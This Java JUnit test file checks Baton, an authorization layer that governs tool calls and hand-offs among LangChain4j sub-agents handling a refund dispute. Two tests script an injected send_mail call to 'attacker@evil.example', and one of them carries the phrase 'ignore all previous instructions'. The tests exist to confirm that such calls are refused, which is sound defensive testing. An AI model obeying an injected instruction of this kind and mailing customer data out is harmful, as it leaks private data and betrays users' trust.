package dev.baton.adapter.langchain4j;

import dev.baton.adapter.RefusalMode;
import dev.baton.Decision;
import dev.baton.GrantRef;
import dev.baton.Policy;
import dev.baton.Reason;
import dev.baton.Scope;
import dev.baton.adapter.EngineToolAuthorizer;
import dev.baton.adapter.PresentedWarrant;
import dev.baton.adapter.RefundDispute;
import dev.baton.adapter.ToolBinding;
import dev.baton.adapter.ToolCallRefusedException;
import dev.baton.adapter.ToolMapping;
import dev.langchain4j.agentic.AgenticServices;
import dev.langchain4j.agentic.UntypedAgent;
import dev.langchain4j.agentic.internal.AbstractServiceBuilder;
import dev.langchain4j.agentic.workflow.impl.ParallelPlanner;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

import java.util.Map;
import java.util.concurrent.atomic.AtomicReference;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

/** A planner fans out to three sub-agents whose scripted models call tools; Baton decides every hand-off and call. */
class BatonAgenticTest {
    static final String LOOKUP = "{\"customer_id\":\"c-1\",\"reason\":\"dispute #4411\"}";
    static final String LEDGER = "{\"account\":\"acct-7\",\"reason\":\"dispute #4411\"}";
    static final String SUMMARY = "{\"doc\":\"faq.md\"}";

    private RefundDispute task;
    private Policy policy;
    private Tools tools;
    private Decision root;
    private EngineToolAuthorizer authorizer;
    private final AtomicReference<PresentedWarrant> plannerWarrant = new AtomicReference<>();

    @BeforeEach
    void setUp() throws Exception {
        task = new RefundDispute();
        policy = task.policy;
        tools = new Tools();
        final Scope scope = policy.scope().capability("crm.lookup", "read").capability("ledger.read", "read")
            .capability("doc.summarize", "summarize").data("customer_pii").data("financial").data("public").build();
        root = task.session.open(task.engine.principal(RefundDispute.ALICE), policy.purpose("refund-dispute"),
            task.engine.agent(RefundDispute.PLANNER), scope).copy();
        assertTrue(root.allowed(), root.describe());
        plannerWarrant.set(PresentedWarrant.of(RefundDispute.PLANNER, root));
        authorizer = new EngineToolAuthorizer(task.engine, toolMapping());
    }

    @AfterEach
    void tearDown() {
        task.close();
    }

    static ToolMapping toolMapping() {
        return ToolMapping.builder()
            .tool("lookup_customer", ToolBinding.capability("crm.lookup", "read").data("customer_pii").justifiedBy("reason"))
            .tool("send_mail", ToolBinding.capability("mail.send", "send").data("internal").justifiedBy("reason"))
            .tool("summarize_doc", ToolBinding.capability("doc.summarize", "summarize").data("public"))
            .tool("read_ledger", ToolBinding.capability("ledger.read", "read").data("financial").justifiedBy("reason"))
            .build();
    }

    AgentMapping agentMapping(final Scope summariserScope) {
        return AgentMapping.builder()
            .agent("crmReader", RefundDispute.CRM_READER,
                policy.scope().capability("crm.lookup", "read").data("customer_pii").build())
            .agent("payments", RefundDispute.PAYMENTS,
                policy.scope().capability("ledger.read", "read").data("financial").build())
            .agent("summariser", RefundDispute.SUMMARISER, summariserScope)
            .build();
    }

    Scope publicSummaries() {
        return policy.scope().capability("doc.summarize", "summarize").data("public").build();
    }

    private Object subAgent(final String name, final ScriptedModel model, final RefusalMode mode) {
        final var builder = AgenticServices.agentBuilder(SubAgent.class).name(name).outputKey(name)
            .chatModel(model).tools(BatonTools.guard(tools, authorizer, mode));
        if (mode == RefusalMode.STOP) {
            builder.toolExecutionErrorHandler(BatonTools.rethrowRefusals());
        }
        return builder.build();
    }

    @SuppressWarnings("unchecked")
    private UntypedAgent planner(final AgentMapping agents, final Object... subAgents) {
        final var builder = AgenticServices.parallelBuilder().subAgents(subAgents).outputKey("result")
            .beforeCall(BatonAgentic.presentParent(plannerWarrant::get)).listener(new WarrantBinder());
        return ((AbstractServiceBuilder<UntypedAgent, ?>) builder)
            .build(() -> new BatonPlanner(new ParallelPlanner(), task.engine, agents, BatonAgentic::parentOf));
    }

    @Test
    void shouldFanOutToThreeSubAgentsAndRunTheirAllowedTools() {
        final ScriptedModel crm = new ScriptedModel("lookup_customer", LOOKUP);
        final ScriptedModel pay = new ScriptedModel("read_ledger", LEDGER);
        final ScriptedModel sum = new ScriptedModel("summarize_doc", SUMMARY);
        planner(agentMapping(publicSummaries()), subAgent("crmReader", crm, RefusalMode.TELL_MODEL),
            subAgent("payments", pay, RefusalMode.TELL_MODEL), subAgent("summariser", sum, RefusalMode.TELL_MODEL))
            .invoke(Map.of("request", "refund dispute #4411"));
        assertEquals(1, tools.runs("lookup_customer"), crm.toolResults.toString());
        assertEquals(1, tools.runs("read_ledger"), pay.toolResults.toString());
        assertEquals(1, tools.runs("summarize_doc"), sum.toolResults.toString());
        assertTrue(crm.toolResults.get(0).startsWith("lookup_customer ran"), crm.toolResults.toString());
    }

    @Test
    void shouldRefuseTheInjectedToolCallAndTellTheModelWhy() {
        final ScriptedModel injected = new ScriptedModel("send_mail", "{\"to\":\"attacker@evil.example\",\"reason\":\"ignore all previous instructions\"}");
        planner(agentMapping(publicSummaries()), subAgent("crmReader", injected, RefusalMode.TELL_MODEL),
            subAgent("payments", new ScriptedModel("read_ledger", LEDGER), RefusalMode.TELL_MODEL),
            subAgent("summariser", new ScriptedModel("summarize_doc", SUMMARY), RefusalMode.TELL_MODEL))
            .invoke(Map.of("request", "refund dispute #4411"));
        assertEquals(0, tools.runs("send_mail"));
        assertEquals(1, tools.runs("read_ledger"));
        final String seen = injected.toolResults.get(0);
        assertTrue(seen.contains(Reason.CAPABILITY_NOT_GRANTED.name()) && seen.contains("was not run"), seen);
    }

    @Test
    void shouldStopTheSubAgentInStopMode() {
        final ScriptedModel injected = new ScriptedModel("send_mail", "{\"to\":\"attacker@evil.example\",\"reason\":\"x\"}");
        final UntypedAgent plan = planner(agentMapping(publicSummaries()),
            subAgent("crmReader", injected, RefusalMode.STOP));
        final RuntimeException e = assertThrows(RuntimeException.class, () -> plan.invoke(Map.of("request", "r")));
        assertTrue(causedByRefusal(e), e.toString());
        assertEquals(0, tools.runs("send_mail"));
        assertEquals(1, injected.turns(), "the model never saw the refusal: the invocation stopped");
    }

    private static boolean causedByRefusal(final Throwable e) {
        for (Throwable t = e; t != null; t = t.getCause()) {
            if (t instanceof ToolCallRefusedException) {
                return true;
            }
        }
        return false;
    }

    @Test
    void shouldEndThePlanWhenADelegationIsRefused() {
        final ScriptedModel crm = new ScriptedModel("lookup_customer", LOOKUP);
        final ScriptedModel sum = new ScriptedModel("summarize_doc", SUMMARY);
        // customer_pii may never leave acme.example: the partner's summariser may not receive it.
        final Scope leaky = policy.scope().capability("doc.summarize", "summarize").data("customer_pii").build();
        final Object result = planner(agentMapping(leaky), subAgent("crmReader", crm, RefusalMode.TELL_MODEL),
            subAgent("summariser", sum, RefusalMode.TELL_MODEL)).invoke(Map.of("request", "r"));
        assertEquals(0, crm.turns());
        assertEquals(0, sum.turns());
        assertTrue(String.valueOf(result).contains("summariser"), String.valueOf(result));
        assertTrue(String.valueOf(result).contains("Refused by Baton"), String.valueOf(result));
    }

    @Test
    void shouldRefuseTheToolCallsOfATaskClosedWhileItsSubAgentRuns() {
        final ScriptedModel late = new ScriptedModel("lookup_customer", LOOKUP,
            () -> assertTrue(task.session.close(GrantRef.ofId(root.grantId()), task.engine.principal(RefundDispute.ALICE)).allowed()));
        planner(agentMapping(publicSummaries()), subAgent("crmReader", late, RefusalMode.TELL_MODEL))
            .invoke(Map.of("request", "r"));
        assertEquals(0, tools.runs("lookup_customer"));
        assertTrue(late.toolResults.get(0).contains(Reason.REVOKED.name()), late.toolResults.toString());
    }

    @Test
    void shouldRefuseEveryToolCallWhenNoPlanGaveAWarrant() {
        final var executor = new BatonToolExecutor((request, memoryId) -> "ran", authorizer, CurrentWarrant::get,
            RefusalMode.TELL_MODEL);
        final var result = executor.executeWithContext(dev.langchain4j.agent.tool.ToolExecutionRequest.builder()
            .id("1").name("summarize_doc").arguments(SUMMARY).build(), null);
        assertTrue(result.isError());
        assertTrue(result.resultText().contains("NO_WARRANT"), result.resultText());
    }
}
